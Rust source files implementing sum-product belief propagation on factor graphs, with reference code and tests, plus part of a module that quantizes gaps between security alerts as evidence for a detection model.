    /// `var_to_fac[f][i]` = message from factor f's i-th scope var to f.
    var_to_fac: Vec<Vec<Vec<f64>>>,
    /// `fac_to_var[f][i]` = message from f to its i-th scope var.
    fac_to_var: Vec<Vec<Vec<f64>>>,
}

impl Messages {
    fn new(graph: &FactorGraph) -> Messages {
        let mut var_to_fac = Vec::with_capacity(graph.num_factors());
        let mut fac_to_var = Vec::with_capacity(graph.num_factors());
        for f in graph.factors() {
            let slots: Vec<Vec<f64>> =
                f.cards().iter().map(|&c| vec![1.0 / c as f64; c]).collect();
            var_to_fac.push(slots.clone());
            fac_to_var.push(slots);
        }
        Messages { var_to_fac, fac_to_var }
    }
}

fn normalize(v: &mut [f64]) {
    let s: f64 = v.iter().sum();
    if s > 0.0 {
        for x in v.iter_mut() {
            *x /= s;
        }
    } else {
        let u = 1.0 / v.len() as f64;
        for x in v.iter_mut() {
            *x = u;
        }
    }
}

/// Run sum-product BP and return per-variable marginals.
pub fn run(graph: &FactorGraph, opts: &BpOptions) -> BpResult {
    let mut msgs = Messages::new(graph);
    let mut iterations = 0;
    let mut converged = false;

    // Pre-compute, for each variable, its (factor, position) incidences.
    let mut incidences: Vec<Vec<(usize, usize)>> = vec![Vec::new(); graph.num_variables()];
    for (fi, f) in graph.factors().iter().enumerate() {
        for (pos, v) in f.vars().iter().enumerate() {
            incidences[v.0 as usize].push((fi, pos));
        }
    }

    let mut scratch = Vec::new();
    for iter in 0..opts.max_iters {
        iterations = iter + 1;
        let mut max_delta: f64 = 0.0;

        // Variable → factor messages: product of other incoming messages.
        for (vi, inc) in incidences.iter().enumerate() {
            let card = graph.variable(VarId(vi as u32)).card;
            for &(fi, pos) in inc {
                scratch.clear();
                scratch.resize(card, 1.0);
                for &(ofi, opos) in inc {
                    if (ofi, opos) == (fi, pos) {
                        continue;
                    }
                    for (k, s) in scratch.iter_mut().enumerate() {
                        *s *= msgs.fac_to_var[ofi][opos][k];
                    }
                }
                normalize(&mut scratch);
                let slot = &mut msgs.var_to_fac[fi][pos];
                for k in 0..card {
                    let new =
                        (1.0 - opts.damping) * scratch[k] + opts.damping * slot[k];
                    max_delta = max_delta.max((new - slot[k]).abs());
                    slot[k] = new;
                }
            }
        }

        // Factor → variable messages: marginalize factor times other
        // incoming variable messages.
        for (fi, f) in graph.factors().iter().enumerate() {
            let nscope = f.vars().len();
            for pos in 0..nscope {
                let card = f.cards()[pos];
                scratch.clear();
                scratch.resize(card, 0.0);
                // Iterate all assignments of the factor scope.
                let mut assignment = vec![0usize; nscope];
                for &val in f.table() {
                    let mut w = val;
                    if w != 0.0 {
                        for (opos, &a) in assignment.iter().enumerate() {
                            if opos != pos {
                                w *= msgs.var_to_fac[fi][opos][a];
                            }
                        }
                        scratch[assignment[pos]] += w;
                    }
                    for d in (0..nscope).rev() {
                        assignment[d] += 1;
                        if assignment[d] < f.cards()[d] {
                            break;
                        }
                        assignment[d] = 0;
                    }
                }
                normalize(&mut scratch);
                let slot = &mut msgs.fac_to_var[fi][pos];
                for k in 0..card {
                    let new =
                        (1.0 - opts.damping) * scratch[k] + opts.damping * slot[k];
                    max_delta = max_delta.max((new - slot[k]).abs());
                    slot[k] = new;
                }
            }
        }

        if max_delta < opts.tolerance {
            converged = true;
            break;
        }
    }

    // Beliefs: product of all incoming factor messages.
    let mut marginals = Vec::with_capacity(graph.num_variables());
    for (vi, inc) in incidences.iter().enumerate() {
        let card = graph.variable(VarId(vi as u32)).card;
        let mut belief = vec![1.0; card];
        for &(fi, pos) in inc {
            for (k, b) in belief.iter_mut().enumerate() {
                *b *= msgs.fac_to_var[fi][pos][k];
            }
        }
        normalize(&mut belief);
        marginals.push(belief);
    }
    BpResult { marginals, iterations, converged }
}

/// Exact marginals by brute-force enumeration — O(∏ card). Testing and
/// validation utility; compare BP against this on small graphs.
pub fn brute_force_marginals(graph: &FactorGraph) -> Vec<Vec<f64>> {
    let cards: Vec<usize> = graph.variables().iter().map(|v| v.card).collect();
    let n = cards.len();
    let total: usize = cards.iter().product();
    let mut marginals: Vec<Vec<f64>> = cards.iter().map(|&c| vec![0.0; c]).collect();
    let mut assignment = vec![0usize; n];
    for _ in 0..total {
        let w = graph.joint_value(&assignment);
        for (vi, &val) in assignment.iter().enumerate() {
            marginals[vi][val] += w;
        }
        for d in (0..n).rev() {
            assignment[d] += 1;
            if assignment[d] < cards[d] {
                break;
            }
            assignment[d] = 0;
        }
    }
    for m in &mut marginals {
        normalize(m);
    }
    marginals
}

/// Evidence helper: returns a copy of the graph with `var = value` clamped
/// by appending an indicator factor.
pub fn with_evidence(graph: &FactorGraph, evidence: &[(VarId, usize)]) -> FactorGraph {
    let mut g = graph.clone();
    for &(var, value) in evidence {
        let card = graph.variable(var).card;
        let mut table = vec![0.0; card];
        table[value] = 1.0;
        g.add_factor(Factor::new(vec![var], vec![card], table));
    }
    g
}

/// Identify the factor most responsible for a variable's belief — a simple
/// explanation facility for operator-facing output.
pub fn dominant_factor(graph: &FactorGraph, result: &BpResult, var: VarId) -> Option<FactorId> {
    let best_state = result.argmax(var);
    graph
        .factors_of(var)
        .iter()
        .copied()
        .max_by(|&a, &b| {
            let fa = factor_support(graph.factor(a), var, best_state);
            let fb = factor_support(graph.factor(b), var, best_state);
            fa.partial_cmp(&fb).unwrap_or(std::cmp::Ordering::Equal)
        })
}

fn factor_support(f: &Factor, var: VarId, state: usize) -> f64 {
    let reduced = f.reduce(var, state);
    let total: f64 = f.table().iter().sum();
    if total == 0.0 {
        return 0.0;
    }
    reduced.table().iter().sum::<f64>() / total
}

#[cfg(test)]
mod tests {
    use super::*;

    fn close(a: &[f64], b: &[f64], tol: f64) -> bool {
        a.len() == b.len() && a.iter().zip(b).all(|(x, y)| (x - y).abs() < tol)
    }

    #[test]
    fn single_variable_prior() {
        let mut g = FactorGraph::new();
        let x = g.add_variable(3);
        g.add_factor(Factor::new(vec![x], vec![3], vec![1.0, 2.0, 7.0]));
        let r = run(&g, &BpOptions::default());
        assert!(r.converged);
        assert!(close(r.marginal(x), &[0.1, 0.2, 0.7], 1e-9));
        assert_eq!(r.argmax(x), 2);
    }

    #[test]
    fn chain_matches_brute_force() {
        let mut g = FactorGraph::new();
        let x0 = g.add_variable(2);
        let x1 = g.add_variable(3);
        let x2 = g.add_variable(2);
        g.add_factor(Factor::new(vec![x0], vec![2], vec![0.3, 0.7]));
        g.add_factor(Factor::from_fn(vec![x0, x1], vec![2, 3], |a| {
            0.5 + (a[0] + a[1]) as f64 * 0.25
        }));
        g.add_factor(Factor::from_fn(vec![x1, x2], vec![3, 2], |a| {
            1.0 + (a[0] * 2 + a[1]) as f64 * 0.1
        }));
        let r = run(&g, &BpOptions::default());
        let exact = brute_force_marginals(&g);
        assert!(r.converged);
        for (vi, m) in exact.iter().enumerate() {
            assert!(
                close(&r.marginals[vi], m, 1e-7),
                "var {vi}: bp {:?} vs exact {:?}",
                r.marginals[vi],
                m
            );
        }
    }

    #[test]
    fn tree_with_branching_matches_brute_force() {
        let mut g = FactorGraph::new();
        let root = g.add_variable(2);
        let kids: Vec<VarId> = (0..3).map(|_| g.add_variable(2)).collect();
        g.add_factor(Factor::new(vec![root], vec![2], vec![0.4, 0.6]));
        for (i, &k) in kids.iter().enumerate() {
            g.add_factor(Factor::from_fn(vec![root, k], vec![2, 2], move |a| {
                if a[0] == a[1] {
                    0.8 + i as f64 * 0.01
                } else {
                    0.2
                }
            }));
        }
        assert!(g.is_forest());
        let r = run(&g, &BpOptions::default());
        let exact = brute_force_marginals(&g);
        for (vi, m) in exact.iter().enumerate() {
            assert!(close(&r.marginals[vi], m, 1e-7), "var {vi}");
        }
    }

    #[test]
    fn loopy_graph_converges_with_damping() {
        // A frustrated 3-cycle of pairwise agreement factors.
        let mut g = FactorGraph::new();
        let xs: Vec<VarId> = (0..3).map(|_| g.add_variable(2)).collect();
        for i in 0..3 {
            let a = xs[i];
            let b = xs[(i + 1) % 3];
            g.add_factor(Factor::from_fn(vec![a, b], vec![2, 2], |v| {
                if v[0] == v[1] {
                    0.9
                } else {
                    0.1
                }
            }));
        }
        g.add_factor(Factor::new(vec![xs[0]], vec![2], vec![0.8, 0.2]));
        assert!(!g.is_forest());
        let r = run(&g, &BpOptions { damping: 0.3, ..Default::default() });
        assert!(r.converged, "loopy BP should converge with damping");
        // Loopy BP must at least agree on the MAP structure: all variables
        // pulled toward state 0 by the x0 prior.
        for &x in &xs {
            assert_eq!(r.argmax(x), 0);
        }
    }

    #[test]
    fn evidence_clamping() {
        let mut g = FactorGraph::new();
        let x0 = g.add_variable(2);
        let x1 = g.add_variable(2);
        g.add_factor(Factor::from_fn(vec![x0, x1], vec![2, 2], |a| {
            if a[0] == a[1] {
                0.9
            } else {
                0.1
            }
        }));
        let clamped = with_evidence(&g, &[(x0, 1)]);
        let r = run(&clamped, &BpOptions::default());
        assert_eq!(r.argmax(x0), 1);
        assert!(r.marginal(x1)[1] > 0.85);
    }

    #[test]
    fn dominant_factor_identified() {
        let mut g = FactorGraph::new();
        let x = g.add_variable(2);
        let weak = g.add_factor(Factor::new(vec![x], vec![2], vec![0.5, 0.5]));
        let strong = g.add_factor(Factor::new(vec![x], vec![2], vec![0.05, 0.95]));
        let r = run(&g, &BpOptions::default());
        assert_eq!(r.argmax(x), 1);
        let dom = dominant_factor(&g, &r, x).unwrap();
        assert_eq!(dom, strong);
        assert_ne!(dom, weak);
    }
}
