//! Sum-product belief propagation.
//!
//! The public entry points run on the stride/arena engine of
//! [`crate::engine`]: messages in flat `f64` arenas addressed by
//! precomputed edge offsets, factor marginalization by stride walks with
//! a pairwise matrix–vector specialization, and a [`BpWorkspace`] that
//! is built once per graph shape and reused across runs with zero
//! steady-state allocation. Three schedules are available via
//! [`BpOptions::schedule`]: serial flooding (default, exact on forests
//! after `diameter` iterations), a rayon-parallel flooding sweep that
//! computes identical messages, and a residual-priority schedule for
//! loopy session graphs.
//!
//! The seed implementation — per-edge `Vec<Vec<Vec<f64>>>` storage and an
//! odometer walk per factor table — is preserved unchanged in
//! [`reference`] as the baseline the benchmark suite and the equivalence
//! tests compare against.

use crate::factor::Factor;
use crate::graph::{FactorGraph, FactorId};
use crate::variable::VarId;

pub use crate::engine::{BpSchedule, BpStats, BpWorkspace};

/// Options for a BP run.
#[derive(Debug, Clone)]
pub struct BpOptions {
    /// Maximum flooding iterations (for the residual schedule, the
    /// equivalent factor-update budget `max_iters × num_factors`).
    pub max_iters: usize,
    /// Convergence threshold on the max absolute message change.
    pub tolerance: f64,
    /// Damping in `[0, 1)`: new = (1-d)*computed + d*old.
    pub damping: f64,
    /// Message-passing schedule.
    pub schedule: BpSchedule,
}

impl Default for BpOptions {
    fn default() -> Self {
        BpOptions {
            max_iters: 100,
            tolerance: 1e-9,
            damping: 0.0,
            schedule: BpSchedule::Flood,
        }
    }
}

/// Result of a BP run.
#[derive(Debug, Clone)]
pub struct BpResult {
    /// Per-variable normalized marginals, indexed by `VarId`.
    pub marginals: Vec<Vec<f64>>,
    /// Number of iterations executed.
    pub iterations: usize,
    /// Whether the message updates converged below tolerance.
    pub converged: bool,
}

impl BpResult {
    /// Marginal distribution of one variable.
    pub fn marginal(&self, var: VarId) -> &[f64] {
        &self.marginals[var.0 as usize]
    }

    /// MAP estimate per variable from the marginals (max-marginal decoding).
    pub fn argmax(&self, var: VarId) -> usize {
        let m = self.marginal(var);
        let mut best = 0;
        for (i, &v) in m.iter().enumerate() {
            if v > m[best] {
                best = i;
            }
        }
        best
    }
}

/// Run sum-product BP and return per-variable marginals.
///
/// Convenience wrapper that builds a throwaway [`BpWorkspace`]; hot paths
/// should hold a workspace and call [`run_in`] to amortize construction
/// and reach the allocation-free steady state.
pub fn run(graph: &FactorGraph, opts: &BpOptions) -> BpResult {
    let mut ws = BpWorkspace::new(graph);
    let stats = run_in(graph, opts, &mut ws);
    BpResult {
        marginals: ws.marginals_vec(),
        iterations: stats.iterations,
        converged: stats.converged,
    }
}

/// Run sum-product BP inside a reusable workspace. Once the workspace has
/// seen this graph shape, serial-schedule runs perform no heap
/// allocation; read the marginals back through
/// [`BpWorkspace::marginal`].
pub fn run_in(graph: &FactorGraph, opts: &BpOptions, ws: &mut BpWorkspace) -> BpStats {
    ws.run::<false>(graph, opts)
}

/// Exact marginals by brute-force enumeration — O(∏ card). Testing and
/// validation utility; compare BP against this on small graphs.
pub fn brute_force_marginals(graph: &FactorGraph) -> Vec<Vec<f64>> {
    let cards: Vec<usize> = graph.variables().iter().map(|v| v.card).collect();
    let n = cards.len();
    let total: usize = cards.iter().product();
    let mut marginals: Vec<Vec<f64>> = cards.iter().map(|&c| vec![0.0; c]).collect();
    let mut assignment = vec![0usize; n];
    for _ in 0..total {
        let w = graph.joint_value(&assignment);
        for (vi, &val) in assignment.iter().enumerate() {
            marginals[vi][val] += w;
        }
        for d in (0..n).rev() {
            assignment[d] += 1;
            if assignment[d] < cards[d] {
                break;
            }
            assignment[d] = 0;
        }
    }
    for m in &mut marginals {
        normalize(m);
    }
    marginals
}

fn normalize(v: &mut [f64]) {
    let s: f64 = v.iter().sum();
    if s > 0.0 {
        for x in v.iter_mut() {
            *x /= s;
        }
    } else {
        let u = 1.0 / v.len() as f64;
        for x in v.iter_mut() {
            *x = u;
        }
    }
}

/// Evidence helper: returns a copy of the graph with `var = value` clamped
/// by appending an indicator factor.
pub fn with_evidence(graph: &FactorGraph, evidence: &[(VarId, usize)]) -> FactorGraph {
    let mut g = graph.clone();
    for &(var, value) in evidence {
        let card = graph.variable(var).card;
        let mut table = vec![0.0; card];
        table[value] = 1.0;
        g.add_factor(Factor::new(vec![var], vec![card], table));
    }
    g
}

/// Identify the factor most responsible for a variable's belief — a simple
/// explanation facility for operator-facing output.
pub fn dominant_factor(graph: &FactorGraph, result: &BpResult, var: VarId) -> Option<FactorId> {
    let best_state = result.argmax(var);
    graph.factors_of(var).iter().copied().max_by(|&a, &b| {
        let fa = factor_support(graph.factor(a), var, best_state);
        let fb = factor_support(graph.factor(b), var, best_state);
        fa.partial_cmp(&fb).unwrap_or(std::cmp::Ordering::Equal)
    })
}

fn factor_support(f: &Factor, var: VarId, state: usize) -> f64 {
    let reduced = f.reduce(var, state);
    let total: f64 = f.table().iter().sum();
    if total == 0.0 {
        return 0.0;
    }
    reduced.table().iter().sum::<f64>() / total
}

/// The seed flooding implementation, kept verbatim as the measured
/// baseline: per-edge `Vec` message storage, per-call allocation, and an
/// odometer `assignment` vector walk over every factor table. Used by
/// `bench` for before/after comparisons and by the property tests as a
/// semantic reference.
pub mod reference {
    use super::{normalize, BpOptions, BpResult};
    use crate::graph::FactorGraph;
    use crate::variable::VarId;

    struct Messages {
        var_to_fac: Vec<Vec<Vec<f64>>>,
        fac_to_var: Vec<Vec<Vec<f64>>>,
    }

    impl Messages {
        fn new(graph: &FactorGraph) -> Messages {
            let mut var_to_fac = Vec::with_capacity(graph.num_factors());
            let mut fac_to_var = Vec::with_capacity(graph.num_factors());
            for f in graph.factors() {
                let slots: Vec<Vec<f64>> =
                    f.cards().iter().map(|&c| vec![1.0 / c as f64; c]).collect();
                var_to_fac.push(slots.clone());
                fac_to_var.push(slots);
            }
            Messages {
                var_to_fac,
                fac_to_var,
            }
        }
    }

    /// Seed `sumproduct::run`: flooding schedule, allocation per message.
    pub fn run(graph: &FactorGraph, opts: &BpOptions) -> BpResult {
        let mut msgs = Messages::new(graph);
        let mut iterations = 0;
        let mut converged = false;

        let mut incidences: Vec<Vec<(usize, usize)>> = vec![Vec::new(); graph.num_variables()];
        for (fi, f) in graph.factors().iter().enumerate() {
            for (pos, v) in f.vars().iter().enumerate() {
                incidences[v.0 as usize].push((fi, pos));
            }
        }

        let mut scratch = Vec::new();
        for iter in 0..opts.max_iters {
            iterations = iter + 1;
            let mut max_delta: f64 = 0.0;

            for (vi, inc) in incidences.iter().enumerate() {
                let card = graph.variable(VarId(vi as u32)).card;
                for &(fi, pos) in inc {
                    scratch.clear();
                    scratch.resize(card, 1.0);
                    for &(ofi, opos) in inc {
                        if (ofi, opos) == (fi, pos) {
                            continue;
                        }
                        for (k, s) in scratch.iter_mut().enumerate() {
                            *s *= msgs.fac_to_var[ofi][opos][k];
                        }
                    }
                    normalize(&mut scratch);
                    let slot = &mut msgs.var_to_fac[fi][pos];
                    for k in 0..card {
                        let new = (1.0 - opts.damping) * scratch[k] + opts.damping * slot[k];
                        max_delta = max_delta.max((new - slot[k]).abs());
                        slot[k] = new;
                    }
                }
            }

            for (fi, f) in graph.factors().iter().enumerate() {
                let nscope = f.vars().len();
                for pos in 0..nscope {
                    let card = f.cards()[pos];
                    scratch.clear();
                    scratch.resize(card, 0.0);
                    let mut assignment = vec![0usize; nscope];
                    for &val in f.table() {
                        let mut w = val;
                        if w != 0.0 {
                            for (opos, &a) in assignment.iter().enumerate() {
                                if opos != pos {
                                    w *= msgs.var_to_fac[fi][opos][a];
                                }
                            }
                            scratch[assignment[pos]] += w;
                        }
                        for d in (0..nscope).rev() {
                            assignment[d] += 1;
                            if assignment[d] < f.cards()[d] {
                                break;
                            }
                            assignment[d] = 0;
                        }
                    }
                    normalize(&mut scratch);
                    let slot = &mut msgs.fac_to_var[fi][pos];
                    for k in 0..card {
                        let new = (1.0 - opts.damping) * scratch[k] + opts.damping * slot[k];
                        max_delta = max_delta.max((new - slot[k]).abs());
                        slot[k] = new;
                    }
                }
            }

            if max_delta < opts.tolerance {
                converged = true;
                break;
            }
        }

        let mut marginals = Vec::with_capacity(graph.num_variables());
        for (vi, inc) in incidences.iter().enumerate() {
            let card = graph.variable(VarId(vi as u32)).card;
            let mut belief = vec![1.0; card];
            for &(fi, pos) in inc {
                for (k, b) in belief.iter_mut().enumerate() {
                    *b *= msgs.fac_to_var[fi][pos][k];
                }
            }
            normalize(&mut belief);
            marginals.push(belief);
        }
        BpResult {
            marginals,
            iterations,
            converged,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn close(a: &[f64], b: &[f64], tol: f64) -> bool {
        a.len() == b.len() && a.iter().zip(b).all(|(x, y)| (x - y).abs() < tol)
    }

    #[test]
    fn single_variable_prior() {
        let mut g = FactorGraph::new();
        let x = g.add_variable(3);
        g.add_factor(Factor::new(vec![x], vec![3], vec![1.0, 2.0, 7.0]));
        let r = run(&g, &BpOptions::default());
        assert!(r.converged);
        assert!(close(r.marginal(x), &[0.1, 0.2, 0.7], 1e-9));
        assert_eq!(r.argmax(x), 2);
    }

    #[test]
    fn chain_matches_brute_force() {
        let mut g = FactorGraph::new();
        let x0 = g.add_variable(2);
        let x1 = g.add_variable(3);
        let x2 = g.add_variable(2);
        g.add_factor(Factor::new(vec![x0], vec![2], vec![0.3, 0.7]));
        g.add_factor(Factor::from_fn(vec![x0, x1], vec![2, 3], |a| {
            0.5 + (a[0] + a[1]) as f64 * 0.25
        }));
        g.add_factor(Factor::from_fn(vec![x1, x2], vec![3, 2], |a| {
            1.0 + (a[0] * 2 + a[1]) as f64 * 0.1
        }));
        let exact = brute_force_marginals(&g);
        for schedule in [
            BpSchedule::Flood,
            BpSchedule::ParallelFlood,
            BpSchedule::Residual,
        ] {
            let r = run(
                &g,
                &BpOptions {
                    schedule,
                    ..Default::default()
                },
            );
            assert!(r.converged, "{schedule:?}");
            for (vi, m) in exact.iter().enumerate() {
                assert!(
                    close(&r.marginals[vi], m, 1e-7),
                    "{schedule:?} var {vi}: bp {:?} vs exact {:?}",
                    r.marginals[vi],
                    m
                );
            }
        }
    }

    #[test]
    fn tree_with_branching_matches_brute_force() {
        let mut g = FactorGraph::new();
        let root = g.add_variable(2);
        let kids: Vec<VarId> = (0..3).map(|_| g.add_variable(2)).collect();
        g.add_factor(Factor::new(vec![root], vec![2], vec![0.4, 0.6]));
        for (i, &k) in kids.iter().enumerate() {
            g.add_factor(Factor::from_fn(vec![root, k], vec![2, 2], move |a| {
                if a[0] == a[1] {
                    0.8 + i as f64 * 0.01
                } else {
                    0.2
                }
            }));
        }
        assert!(g.is_forest());
        let r = run(&g, &BpOptions::default());
        let exact = brute_force_marginals(&g);
        for (vi, m) in exact.iter().enumerate() {
            assert!(close(&r.marginals[vi], m, 1e-7), "var {vi}");
        }
    }

    #[test]
    fn high_arity_factor_matches_brute_force() {
        // Exercises the product-expansion + divide-out path (arity ≥ 3)
        // including a zero message entry via a hard indicator factor.
        let mut g = FactorGraph::new();
        let x = g.add_variable(2);
        let y = g.add_variable(3);
        let z = g.add_variable(2);
        g.add_factor(Factor::from_fn(vec![x, y, z], vec![2, 3, 2], |a| {
            0.2 + ((a[0] * 5 + a[1] * 3 + a[2] * 2) % 7) as f64 * 0.1
        }));
        g.add_factor(Factor::new(vec![x], vec![2], vec![0.0, 1.0])); // hard evidence
        g.add_factor(Factor::new(vec![y], vec![3], vec![0.5, 0.2, 0.3]));
        let r = run(&g, &BpOptions::default());
        let exact = brute_force_marginals(&g);
        assert!(r.converged);
        for (vi, m) in exact.iter().enumerate() {
            assert!(
                close(&r.marginals[vi], m, 1e-7),
                "var {vi}: {:?} vs {:?}",
                r.marginals[vi],
                m
            );
        }
    }

    #[test]
    fn loopy_graph_converges_with_damping() {
        // A frustrated 3-cycle of pairwise agreement factors.
        let mut g = FactorGraph::new();
        let xs: Vec<VarId> = (0..3).map(|_| g.add_variable(2)).collect();
        for i in 0..3 {
            let a = xs[i];
            let b = xs[(i + 1) % 3];
            g.add_factor(Factor::from_fn(vec![a, b], vec![2, 2], |v| {
                if v[0] == v[1] {
                    0.9
                } else {
                    0.1
                }
            }));
        }
        g.add_factor(Factor::new(vec![xs[0]], vec![2], vec![0.8, 0.2]));
        assert!(!g.is_forest());
        for schedule in [
            BpSchedule::Flood,
            BpSchedule::ParallelFlood,
            BpSchedule::Residual,
        ] {
            let r = run(
                &g,
                &BpOptions {
                    damping: 0.3,
                    schedule,
                    ..Default::default()
                },
            );
            assert!(
                r.converged,
                "loopy BP should converge with damping ({schedule:?})"
            );
            for &x in &xs {
                assert_eq!(r.argmax(x), 0, "{schedule:?}");
            }
        }
    }

    #[test]
    fn matches_reference_implementation_exactly_on_forests() {
        let mut g = FactorGraph::new();
        let x0 = g.add_variable(3);
        let x1 = g.add_variable(2);
        let x2 = g.add_variable(4);
        g.add_factor(Factor::from_fn(vec![x0], vec![3], |a| 0.2 + a[0] as f64));
        g.add_factor(Factor::from_fn(vec![x0, x1], vec![3, 2], |a| {
            0.1 + (a[0] + 2 * a[1]) as f64 * 0.3
        }));
        g.add_factor(Factor::from_fn(vec![x1, x2], vec![2, 4], |a| {
            0.4 + (3 * a[0] + a[1]) as f64 * 0.2
        }));
        let opts = BpOptions::default();
        let fast = run(&g, &opts);
        let slow = reference::run(&g, &opts);
        assert_eq!(fast.converged, slow.converged);
        for vi in 0..3 {
            assert!(
                close(&fast.marginals[vi], &slow.marginals[vi], 1e-12),
                "var {vi}: {:?} vs {:?}",
                fast.marginals[vi],
                slow.marginals[vi]
            );
        }
    }

    #[test]
    fn workspace_reuse_across_same_shape_graphs() {
        let build = |bias: f64| {
            let mut g = FactorGraph::new();
            let x = g.add_variable(2);
            let y = g.add_variable(2);
            g.add_factor(Factor::new(vec![x], vec![2], vec![bias, 1.0 - bias]));
            g.add_factor(Factor::from_fn(vec![x, y], vec![2, 2], |a| {
                if a[0] == a[1] {
                    0.9
                } else {
                    0.1
                }
            }));
            g
        };
        let g1 = build(0.9);
        let g2 = build(0.1);
        let mut ws = BpWorkspace::new(&g1);
        run_in(&g1, &BpOptions::default(), &mut ws);
        let m1 = ws.marginal(VarId(0)).to_vec();
        assert!(!ws.prepare(&g2), "same shape must not rebuild");
        run_in(&g2, &BpOptions::default(), &mut ws);
        let m2 = ws.marginal(VarId(0)).to_vec();
        assert!(
            m1[0] > 0.5 && m2[0] < 0.5,
            "different tables, different answers"
        );
        assert!(close(&m1, &brute_force_marginals(&g1)[0], 1e-9));
        assert!(close(&m2, &brute_force_marginals(&g2)[0], 1e-9));
    }

    #[test]
    fn evidence_clamping() {
        let mut g = FactorGraph::new();
        let x0 = g.add_variable(2);
        let x1 = g.add_variable(2);
        g.add_factor(Factor::from_fn(vec![x0, x1], vec![2, 2], |a| {
            if a[0] == a[1] {
                0.9
            } else {
                0.1
            }
        }));
        let clamped = with_evidence(&g, &[(x0, 1)]);
        let r = run(&clamped, &BpOptions::default());
        assert_eq!(r.argmax(x0), 1);
        assert!(r.marginal(x1)[1] > 0.85);
    }

    #[test]
    fn dominant_factor_identified() {
        let mut g = FactorGraph::new();
        let x = g.add_variable(2);
        let weak = g.add_factor(Factor::new(vec![x], vec![2], vec![0.5, 0.5]));
        let strong = g.add_factor(Factor::new(vec![x], vec![2], vec![0.05, 0.95]));
        let r = run(&g, &BpOptions::default());
        assert_eq!(r.argmax(x), 1);
        let dom = dominant_factor(&g, &r, x).unwrap();
        assert_eq!(dom, strong);
        assert_ne!(dom, weak);
    }

    #[test]
    fn empty_graph_and_isolated_variable() {
        let g = FactorGraph::new();
        let r = run(&g, &BpOptions::default());
        assert!(r.marginals.is_empty());
        assert!(r.converged);

        let mut g = FactorGraph::new();
        let x = g.add_variable(3);
        let _y = g.add_variable(2); // no factors at all
        g.add_factor(Factor::new(vec![x], vec![3], vec![3.0, 1.0, 1.0]));
        let r = run(&g, &BpOptions::default());
        assert!(close(r.marginal(VarId(1)), &[0.5, 0.5], 1e-12));
        assert!(close(r.marginal(x), &[0.6, 0.2, 0.2], 1e-9));
    }
}
