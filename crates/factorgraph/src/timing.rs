//! Quantized inter-observation-gap observation factors.
//!
//! Insight 3 of the paper: attack *tempo* is itself evidence. Automated
//! reconnaissance ticks at machine rate, manual exploitation has
//! heavy-tailed minutes-to-hours gaps, and low-and-slow evasion stretches
//! both — while benign interactive activity keeps its own rhythm. A chain
//! model that sees only alert *order* is blind to all of it; this module
//! adds the timing side: the gap preceding each observation is quantized
//! into a small set of logarithmic bins, and a per-state emission table
//! `P(gap bin | state)` turns that bin into one more observation factor
//! multiplied into the forward filter (or, in the session factor graph,
//! one more unary factor on the step variable).
//!
//! The quantization is deliberately coarse: bins are evidence about tempo
//! *class* (machine-paced / interactive / slow / dormant), not a timing
//! side-channel. Coarse bins also keep the learned tables well-supported
//! and the per-step likelihood ratios bounded, which is what keeps the
//! false-positive rate stable when the feature is enabled.

use serde::{Deserialize, Serialize};

/// Gap bin index meaning "no preceding observation" (the first alert of an
/// entity, or the first after a session timeout). No gap factor is applied
/// at such steps.
pub const GAP_NONE: usize = usize::MAX;

/// A per-state emission model over quantized inter-observation gaps.
///
/// `boundaries_secs` are the (sorted, positive) upper edges of the first
/// `n_bins - 1` bins; the last bin is open-ended. A gap `g` lands in the
/// first bin whose boundary exceeds it: with boundaries `[60, 3600]`,
/// gaps quantize to `<1m`, `1m–1h`, `≥1h`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct GapModel {
    n_states: usize,
    boundaries_secs: Vec<f64>,
    /// `emit[s * n_bins + b]` = P(gap bin = b | state = s).
    emit: Vec<f64>,
    /// Gaps shorter than this quantize to [`GAP_NONE`] (no evidence
    /// folded): machine-paced bursts are emitted by scanners, exploit
    /// tooling and batch jobs alike, so sub-threshold tempo carries no
    /// stage information worth acting on. 0 disables the guard.
    #[serde(default)]
    neutral_below_secs: f64,
}

impl GapModel {
    /// Create a gap model, validating that boundaries are sorted/positive
    /// and every state row is a distribution over the bins.
    pub fn new(n_states: usize, boundaries_secs: Vec<f64>, emit: Vec<f64>) -> GapModel {
        assert!(n_states > 0, "gap model needs at least one state");
        assert!(
            !boundaries_secs.is_empty(),
            "gap model needs at least two bins"
        );
        assert!(
            boundaries_secs
                .windows(2)
                .all(|w| w[0] < w[1] && w[0] > 0.0)
                && boundaries_secs[0] > 0.0,
            "gap boundaries must be positive and strictly increasing"
        );
        let n_bins = boundaries_secs.len() + 1;
        assert_eq!(emit.len(), n_states * n_bins, "gap emission table size");
        for s in 0..n_states {
            let row = &emit[s * n_bins..(s + 1) * n_bins];
            let sum: f64 = row.iter().sum();
            assert!(
                (sum - 1.0).abs() < 1e-6,
                "gap emission row {s} must sum to 1 (got {sum})"
            );
            assert!(
                row.iter().all(|&x| x >= 0.0),
                "gap emission row {s} must be non-negative"
            );
        }
        GapModel {
            n_states,
            boundaries_secs,
            emit,
            neutral_below_secs: 0.0,
        }
    }

    /// Treat gaps shorter than `secs` as carrying no evidence
    /// ([`GapModel::bin`] returns [`GAP_NONE`] for them).
    pub fn with_neutral_below(mut self, secs: f64) -> GapModel {
        assert!(secs >= 0.0 && secs.is_finite());
        self.neutral_below_secs = secs;
        self
    }

    /// The neutral-gap guard threshold in seconds (0 = disabled).
    pub fn neutral_below_secs(&self) -> f64 {
        self.neutral_below_secs
    }

    pub fn n_states(&self) -> usize {
        self.n_states
    }

    /// Number of quantization bins (boundaries + the open-ended last bin).
    pub fn n_bins(&self) -> usize {
        self.boundaries_secs.len() + 1
    }

    /// The bin boundaries in seconds (upper edges of all but the last bin).
    pub fn boundaries_secs(&self) -> &[f64] {
        &self.boundaries_secs
    }

    /// Quantize a gap (seconds) into its bin; [`GAP_NONE`] when it falls
    /// under the neutral-gap guard.
    #[inline]
    pub fn bin(&self, gap_secs: f64) -> usize {
        if gap_secs < self.neutral_below_secs {
            return GAP_NONE;
        }
        quantize_gap(&self.boundaries_secs, gap_secs)
    }

    /// P(gap bin | state). Returns 1.0 (a neutral factor) for
    /// [`GAP_NONE`], so callers can fold unconditionally.
    #[inline]
    pub fn emit(&self, state: usize, bin: usize) -> f64 {
        if bin == GAP_NONE {
            return 1.0;
        }
        self.emit[state * self.n_bins() + bin]
    }
}

/// Quantize a gap in seconds against sorted bin boundaries: the first bin
/// whose upper edge exceeds the gap, or the open-ended last bin.
#[inline]
